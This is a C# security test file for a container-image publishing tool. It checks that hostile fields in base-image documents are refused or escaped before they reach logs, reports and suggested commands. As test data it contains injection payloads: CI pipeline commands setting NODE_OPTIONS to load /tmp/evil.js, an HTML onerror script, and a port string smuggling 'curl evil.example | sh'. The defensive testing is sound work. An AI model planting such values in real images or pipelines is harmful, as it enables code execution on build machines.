using System.Text;
using System.Text.Json.Nodes;
using ImagePublish.Bases;
using ImagePublish.Commands;
using ImagePublish.Diagnostics;
using ImagePublish.Oci;
using ImagePublish.Publishing;
using ImagePublish.Publishing.Explain;
using ImagePublish.Reporting;
using ImagePublish.Reporting.Page;
using ImagePublish.Requests;
using ImagePublish.Testing;
using ImagePublish.Tests.Registries;
using MediaTypes = ImagePublish.Oci.MediaTypes;

namespace ImagePublish.Tests.Security;

/// <summary>What an author of a base image, or whoever pushes to the repository, gets printed on the build machine.</summary>
public sealed class HostileDocumentTests
{
    private const string Repository = "dotnet/aspnet";

    private static readonly byte[] Layer = Seeding.LayerOf(("etc/base", "base"));

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Theory]
    [InlineData("1\n)\n::set-output name=image::evil/image\n##vso[task.setvariable variable=NODE_OPTIONS]--require /tmp/evil.js\n")]
    [InlineData("##vso[task.prependpath]/tmp/evil")]
    [InlineData("<img src=x onerror=alert(1)>|x|")]
    [ReliabilityCase(
        "Security",
        "a base image's `os.version` contains a command of Azure Pipelines or GitHub Actions, or HTML",
        "one error names the place, with the command made harmless; nothing is published"
    )]
    public async Task AHostileVersionIsRefused(string version)
    {
        await using var bench = await PublishingBench.StartAsync();
        Push(bench, Config().With("/os.version", version), Manifest(), Index(), "hostile");

        var failure = await Assert.ThrowsAnyAsync<ImagePublishException>(() => bench.PublishAsync(Request(bench, "hostile")));

        Assert.Equal("IMG2003", failure.Code.Id);
        Assert.Contains("the config's $['os.version'] is the string ", failure.Message, StringComparison.Ordinal);
        Hostile.AssertHarmless(failure.Message);
        Assert.Null(bench.TagDigest("acme/shop", "1.0"));
    }

    [Fact]
    [ReliabilityCase(
        "Security",
        "a base image exposes the port `80 alpine; curl evil.example | sh #/tcp`",
        "only real ports are shown, also in the commands to copy"
    )]
    public async Task OnlyPortsAreSuggested()
    {
        await using var bench = await PublishingBench.StartAsync();
        var ports = Config().With("/config/ExposedPorts/8080~1tcp#", "80 alpine; curl evil.example | sh #/tcp");
        ports["config"]!["ExposedPorts"]!["8443/tcp"] = new JsonObject();
        Push(bench, ports, Manifest(), Index(), "ports");

        var (result, page) = await ReportAsync(bench, Request(bench, "ports"));

        var lines = PublishSummary.Lines("App", result, TimeSpan.Zero).ToList();
        Assert.Contains($"  docker run --rm -p 8443:8443 {bench.Server.Host}/acme/shop:1.0", lines);
        Assert.DoesNotContain("curl", string.Join('\n', lines), StringComparison.Ordinal);
        Assert.DoesNotContain("curl", page, StringComparison.Ordinal);
        Assert.Contains("80 alpine; curl evil.example | sh #/tcp", result.Image.Config.Config!.ExposedPorts!);
        Assert.StartsWith(
            "### A&#95;b&#60;i&#62;&#124;&#92;u000a\n\n| | |\n",
            PublishMarkdown.Write("A_b<i>|\n", result),
            StringComparison.Ordinal
        );
    }

    [Theory]
    [InlineData("localhost:5000/acme/shop:1.0", "docker run --rm localhost:5000/acme/shop:1.0")]
    [InlineData("a;b", "docker run --rm 'a;b'")]
    [InlineData("it's $(x)\n", @"docker run --rm 'it'\''s $(x)\u000a'")]
    public void ANameIsOneWordOfACommand(string name, string command) => Assert.Equal(command, NextCommands.Run(name, []));

    // One field after the other, of each document, first of the base and then of the image that the tag points at: what comes of it is
    // harmless, wherever it ends.
    [Theory]
    [InlineData(Hostile.Everything)]
    [InlineData(Hostile.AgentCommand)]
    [ReliabilityCase(
        "Security",
        "each string of a base's or an earlier image's manifest, index and config contains a CI command, a terminal escape "
            + "sequence, Markdown, HTML and invisible characters",
        "none of it appears unescaped in a line, table, report or command to copy"
    )]
    public async Task NothingOfADocumentComesOutUnbroken(string canary)
    {
        await using var bench = await PublishingBench.StartAsync();
        var cases = new List<(string Name, JsonNode Config, JsonNode Manifest, JsonNode Index)>();
        cases.AddRange(Hostile.Places(Config()).Select(place => ($"config {place}", Config().With(place, canary), Manifest(), Index())));
        cases.AddRange(
            Hostile.Places(Manifest()).Select(place => ($"manifest {place}", Config(), Manifest().With(place, canary), Index()))
        );
        cases.AddRange(Hostile.Places(Index()).Select(place => ($"index {place}", Config(), Manifest(), Index().With(place, canary))));
        var published = 0;

        foreach (var (number, one) in cases.Index())
        {
            var tag = $"n{number}";
            Push(bench, one.Config, one.Manifest, one.Index, tag);
            try
            {
                var (result, page) = await ReportAsync(bench, Request(bench, tag));
                published++;
                Assert.All(PublishSummary.Lines("App", result, TimeSpan.Zero), Hostile.AssertHarmless);
                Hostile.AssertHarmlessMarkdown(PublishMarkdown.Write("App", result));
                Hostile.AssertHarmlessData(page);
            }
            catch (ImagePublishException exception)
            {
                Hostile.AssertHarmless(exception.Message);
            }

            await AssertComparedAsync(bench, tag);
            await AssertInspectedAsync(bench, tag);
            Assert.All([.. bench.Log.Informations, .. bench.Log.Details, .. bench.Log.Warnings], Hostile.AssertHarmless);
        }

        Assert.InRange(published, cases.Count / 3, cases.Count);
    }

    private static async Task AssertComparedAsync(PublishingBench bench, string tag)
    {
        bench.Server.Content.Tag("acme/shop", "1.0", bench.Server.Content.Tags("acme/shop")[tag]);
        try
        {
            var plan = await bench.PlanAsync(bench.Request("1.0"));
            Assert.All(PlanTables.Lines("App", plan), Hostile.AssertHarmless);
            Hostile.AssertNoCommand(Encoding.UTF8.GetString(PlanJson.Write(plan)));
        }
        catch (ImagePublishException exception)
        {
            Hostile.AssertHarmless(exception.Message);
        }
    }

    private static async Task AssertInspectedAsync(PublishingBench bench, string tag)
    {
        await using var registry = RegistryBench.For(bench.Server);
        try
        {
            var image = await new ImageInspector(registry.Client, bench.Store()).InspectAsync(
                new RegistryImage(bench.Named(Repository).ReferenceTo(Tag.Parse(tag))),
                Cancel
            );
            Assert.All(ImageTables.OfImage(image), Hostile.AssertHarmless);
        }
        catch (ImagePublishException exception)
        {
            Hostile.AssertHarmless(exception.Message);
        }
    }

    private static async Task<(PublishResult Result, string Page)> ReportAsync(PublishingBench bench, PublishRequest request)
    {
        await using var registry = RegistryBench.For(bench.Server);
        var reporter = new ImageReporter(bench.Context(registry.Client));
        var published = await reporter.PublishAsync(request, Cancel);
        var report = await reporter.DescribeAsync(published, Cancel);
        return (published.Result, Encoding.UTF8.GetString(ReportPage.Part(report)));
    }

    private static PublishRequest Request(PublishingBench bench, string tag) =>
        bench.Request("1.0") with
        {
            Base = new RegistryImage(bench.Named(Repository).ReferenceTo(Tag.Parse(tag))),
        };

    // What one document says of the next is right, so that each is read; unless the field is what says so.
    private static void Push(PublishingBench bench, JsonNode config, JsonNode manifest, JsonNode index, string tag)
    {
        var content = bench.Server.Content;
        foreach (var repository in (string[])[Repository, "acme/shop"])
        {
            content.PutBlob(repository, Layer);
            Describe(manifest["config"]!, config);
            content.PutBlob(repository, config.Bytes());
            Describe(index["manifests"]![0]!, manifest);
            content.PutManifest(repository, null, manifest.Bytes(), MediaTypes.OciManifest);
            content.PutManifest(repository, tag, index.Bytes(), MediaTypes.OciIndex);
        }

        static void Describe(JsonNode descriptor, JsonNode document)
        {
            if (descriptor["digest"]!.GetValue<string>().Length == 0)
                descriptor["digest"] = Digests.Sha256(document.Bytes());
            descriptor["size"] = document.Bytes().Length;
        }
    }

    private static JsonNode Config() =>
        JsonNode.Parse(
            $$$"""
            {
              "created": "2026-01-01T00:00:00Z", "author": "somebody", "architecture": "amd64", "os": "linux", "os.version": "6.1", "os.features": ["a"], "variant": "v1",
              "config": {
                "User": "app", "ExposedPorts": {"8080/tcp": {}}, "Env": ["PATH=/bin", "APP_UID=1654"], "Entrypoint": ["/bin/app"], "Cmd": ["--serve"], "Volumes": {"/data": {}}, "WorkingDir": "/srv",
                "Labels": {"maintainer": "somebody"}, "StopSignal": "SIGTERM", "Healthcheck": {"Test": ["CMD-SHELL", "true"]}, "Shell": ["/bin/sh"]
              },
              "history": [{"created": "2026-01-01T00:00:00Z", "created_by": "ADD x", "author": "somebody", "comment": "a layer"}],
              "rootfs": {"type": "layers", "diff_ids": ["{{{DiffId}}}"]}, "novel": {"a": "b"}
            }
            """
        )!;

    private static JsonNode Manifest() =>
        JsonNode.Parse(
            $$$"""
            {
              "schemaVersion": 2, "mediaType": "{{{MediaTypes.OciManifest}}}", "artifactType": "application/x",
              "config": {"mediaType": "{{{MediaTypes.OciConfig}}}", "digest": "", "size": 0, "annotations": {"a": "b"}},
              "layers": [{"mediaType": "{{{MediaTypes.OciLayer}}}+gzip", "digest": "{{{Digests.Sha256(
                Layer
            )}}}", "size": {{{Layer.Length}}}, "urls": ["https://example.org/a"], "annotations": {"a": "b"}}],
              "annotations": {"org.opencontainers.image.base.name": "docker.io/library/debian:12"}, "novel": "a"
            }
            """
        )!;

    private static JsonNode Index() =>
        JsonNode.Parse(
            $$$"""
            {
              "schemaVersion": 2, "mediaType": "{{{MediaTypes.OciIndex}}}",
              "manifests": [{"mediaType": "{{{MediaTypes.OciManifest}}}", "digest": "", "size": 0, "platform": {"architecture": "amd64", "os": "linux", "variant": "v1", "os.version": "6.1", "os.features": ["a"]}, "annotations": {"a": "b"}}],
              "annotations": {"a": "b"}, "novel": "a"
            }
            """
        )!;

    private static string DiffId
    {
        get
        {
            using var inflated = new System.IO.Compression.GZipStream(
                new MemoryStream(Layer),
                System.IO.Compression.CompressionMode.Decompress
            );
            using var tar = new MemoryStream();
            inflated.CopyTo(tar);
            return Digests.Sha256(tar.ToArray());
        }
    }
}
